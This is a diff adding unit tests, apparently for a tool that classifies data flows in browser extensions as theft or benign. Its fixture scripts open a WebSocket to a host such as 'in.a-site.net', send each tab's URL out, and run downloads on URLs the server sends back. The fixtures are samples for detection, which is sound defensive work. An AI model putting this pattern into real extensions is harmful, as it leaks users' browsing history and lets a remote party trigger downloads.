@@ -107,4 +107,24 @@ describe('directions of the data of users', () => {
       assert.deepEqual(directionsOf({ 'worker.js': script }, 'tabs'), [direction]);
     });
   }
+
+  for (const [host, isHeard, direction] of [
+    ['127.0.0.1:61822', true, 'own-receiver'],
+    ['127.0.0.1:61822', false, 'theft'],
+    ['in.a-site.net', true, 'theft'],
+  ] as const) {
+    it(`${direction}, where a socket of ${host} is told and ${isHeard ? 'listened to' : 'not listened to'}`, () => {
+      const listener = isHeard ? 'ws.onmessage = (event) => run(JSON.parse(event.data));' : '';
+      const script = `const ws = new WebSocket('ws://${host}'); ${listener}
+        chrome.tabs.onUpdated.addListener((id, change, tab) => ws.send(JSON.stringify({ url: tab.url })));
+        function run(told) { chrome.downloads.download({ url: told.url }); }`;
+      const files = { 'worker.js': script };
+      assert.deepEqual(directionsOf(files, 'tabs'), [direction]);
+      const asked = flowsBetween
+        .whole(files, everywhere)
+        .find(({ sink }) => sink.kind === 'download');
+      // What a program of the user's own asks for, its user asks for.
+      assert.equal(asked?.source.kind, host.startsWith('127') ? undefined : 'network-response');
+    });
+  }
 });
